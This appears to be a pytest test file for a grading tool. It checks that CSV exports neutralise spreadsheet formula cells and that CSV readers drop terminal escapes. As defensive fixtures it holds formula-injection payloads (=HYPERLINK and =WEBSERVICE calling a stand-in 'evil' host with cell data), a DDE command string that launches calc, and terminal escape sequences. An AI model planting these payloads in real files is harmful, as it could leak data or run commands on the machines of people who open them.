"""Nothing runs where a TA opens it: every CSV the grader writes (gradebook.csv, the Canvas and Moodle imports,
`grader manual export`) neutralises the cells a spreadsheet would run, numbers stay numbers, and the CSV
readers (`grader manual import`, the roster) accept Excel's "CSV UTF-8" with its byte-order mark."""
from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grader.checks.manual import ManualDetails
from grader.classroom.lms_export import canvas_csv, match_results, moodle_csv
from grader.classroom.score_files import gradebook_csv
from grader.cli.manual import enter_scores, export_pending, import_scores
from grader.results import QuestionResult, Status, SubmissionResult
from grader.rubric.schema import load_rubric
from grader.sources.roster import Roster
from grader.spreadsheet import csv_text, neutralise, unquote
from tests.conftest import DATA
from tests.lms_helpers import P, result

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://x\",\"y\")"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_a_spreadsheet_would_run_gets_a_quote_and_reads_back(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert unquote(neutralise(text)) == text
    assert _rows(csv_text([[text]])) == [["'" + text]]


@pytest.mark.parametrize("text", ["Alice Smith", "O'Neil", "'quoted", "s001", "", "a=b", "1e5"])
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == unquote(text) == text


def test_text_that_looks_neutralised_already_reads_back_whole() -> None:
    assert neutralise("'=1+1") == "''=1+1" and unquote("''=1+1") == "'=1+1"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=4))
def test_any_text_is_read_back_inert_and_whole(rows: list[list[str]]) -> None:
    back = _rows(csv_text(rows))
    assert [[unquote(c) for c in row] for row in back] == rows
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in back for c in row)


def test_numbers_stay_numbers() -> None:
    assert _rows(csv_text([["-1", -1.5, 0, 2.25, None, True]])) == [["'-1", "-1.5", "0", "2.25", "", "True"]]


CANVAS_ROSTER = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Email\n"
    '"=HYPERLINK(""http://evil/""&A1,""click"")",1001,+s001,@asmith,-L01,alice@example.edu\n'
    '"Jones, Bob",1002,s002,bjones,L01,bob@example.edu\n'
)


def _graded() -> list[SubmissionResult]:
    return [
        result("a", "smithalice_1001_5_hw2.ipynb", {"q1": (5, P), "q2": (2.5, P)}),
        result("b", "jonesbob_1002_7_hw2.ipynb", {"q1": (1.25, P), "q2": (0, P)}),
    ]


def test_canvas_export_neutralises_names_and_ids_and_keeps_scores_numbers() -> None:
    matched = match_results(_graded(), Roster.parse(CANVAS_ROSTER, "roster.csv"))
    rows = _rows(canvas_csv(matched, "=HW 2", None, 10))
    assert rows == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "'=HW 2"],
        ["Points Possible", "", "", "", "", "10"],
        ["'=HYPERLINK(\"http://evil/\"&A1,\"click\")", "1001", "'+s001", "'@asmith", "'-L01", "7.5"],
        ["Jones, Bob", "1002", "s002", "bjones", "L01", "1.25"],
    ]


def test_moodle_export_neutralises_names_and_keeps_scores_numbers() -> None:
    matched = match_results(_graded(), Roster.parse(CANVAS_ROSTER, "roster.csv"))
    text, skipped = moodle_csv(matched, "@HW 2")
    assert skipped == ()
    assert _rows(text) == [
        ["Full name", "ID number", "Email address", "'@HW 2"],
        ["'=HYPERLINK(\"http://evil/\"&A1,\"click\")", "'+s001", "alice@example.edu", "7.5"],
        ["Jones, Bob", "s002", "bob@example.edu", "1.25"],
    ]


def test_gradebook_csv_neutralises_names_and_keeps_scores_numbers() -> None:
    rubric = load_rubric(DATA / "mini" / "rubric.yaml")
    qids = [q.id for q in rubric.questions]
    scores = {qid: (1.0, P) for qid in qids}
    results = [result("a", "a.py", scores, name="-2+3+cmd|' /C calc'!A0", sid="\r=1"),
               result("b", "b.py", scores, name="Bob Jones", sid="s002")]
    rows = _rows(gradebook_csv(rubric, results))
    assert rows[0] == ["student", "name", "sid", *qids, "total", "max", "status", "late", "raw_total", "penalty"]
    ones = ["1"] * len(qids)
    assert rows[1] == ["a", "'-2+3+cmd|' /C calc'!A0", "'\r=1", *ones, "8", "10", "graded", "", "8", "0"]
    assert rows[2] == ["b", "Bob Jones", "s002", *ones, "8", "10", "graded", "", "8", "0"]


# -- grader manual: export neutralised, import with a BOM ----------------------------------------------------------

def _manual_class(tmp_path: Path, answers: dict[str, str]) -> tuple[Path, Path]:
    course = tmp_path / "course"
    course.mkdir()
    shutil.copy(DATA / "mini" / "reference.py", course / "reference.py")
    rubric = course / "rubric.yaml"
    rubric.write_text("assignment: mini\ntitle: TA-graded\nreference: reference.py\nquestions:\n"
                      "  - {id: q4.1, title: explain, points: 2, kind: manual, guide: the chain rule}\n")
    out = tmp_path / "out"
    for student, answer in answers.items():
        q = QuestionResult("q4.1", "explain", "manual", 0.0, 2.0, Status.PENDING, "waits for a TA", "public",
                           ManualDetails(answer=answer).serialize())
        r = SubmissionResult(student=student, path=f"{student}.ipynb", assignment="mini", questions=(q,))
        (out / student).mkdir(parents=True)
        (out / student / "grading.json").write_text(json.dumps(r.serialize()))
    return rubric, out


def test_manual_export_neutralises_the_students_answer(tmp_path: Path) -> None:
    rubric, out = _manual_class(tmp_path, {"alice": "=WEBSERVICE(\"http://evil/\"&B2)", "bob": "-1 because"})
    assert export_pending(tmp_path / "todo.csv", out, rubric) == 0
    assert _rows((tmp_path / "todo.csv").read_text(encoding="utf-8")) == [
        ["student", "question", "score", "comment", "answer"],
        ["alice", "q4.1", "", "", "'=WEBSERVICE(\"http://evil/\"&B2)"],
        ["bob", "q4.1", "", "", "'-1 because"],
    ]


def test_manual_import_accepts_excels_csv_utf8_and_the_exports_quotes(tmp_path: Path) -> None:
    rubric, out = _manual_class(tmp_path, {"alice": "by the chain rule", "bob": "it works"})
    scores = tmp_path / "scores.csv"
    # Excel's "CSV UTF-8": a byte-order mark first; a comment the export's `'` still guards.
    scores.write_bytes("\ufeffstudent,question,score,comment\r\nalice,q4.1,2,'=right\r\nbob,q4.1,1,half\r\n"
                       .encode())
    assert import_scores(scores, out, rubric) == 0
    stored = {s: SubmissionResult.from_dict(json.loads((out / s / "grading.json").read_text())).questions[0]
              for s in ("alice", "bob")}
    assert [(q.score, q.details["ta_comment"]) for q in stored.values()] == [(2.0, "=right"), (1.0, "half")]


def test_the_roster_reader_accepts_a_bom_and_drops_terminal_escapes(tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    path.write_bytes("\ufeffsid,name,email\ns001,\"Eve\x1b]0;pwned\x07\tSmith\x1b[2J\",eve@example.edu\n".encode())
    (eve,) = Roster.load(path).students
    assert (eve.key, eve.name, eve.email) == ("s001", "Eve]0;pwned Smith[2J", "eve@example.edu")


def test_manual_prompts_show_the_students_escapes_never_obey_them(tmp_path: Path) -> None:
    rubric, out = _manual_class(tmp_path, {"alice": "\x1b]0;pwned\x07\x1b[2Jby the chain rule"})
    said: list[str] = []
    assert enter_scores(out, rubric, ask=lambda prompt: "q", say=said.append) == 0
    assert said[-1] == "\\x1b]0;pwned\\x07\\x1b[2Jby the chain rule"
    assert not any("\x1b" in line or "\x07" in line for line in said)
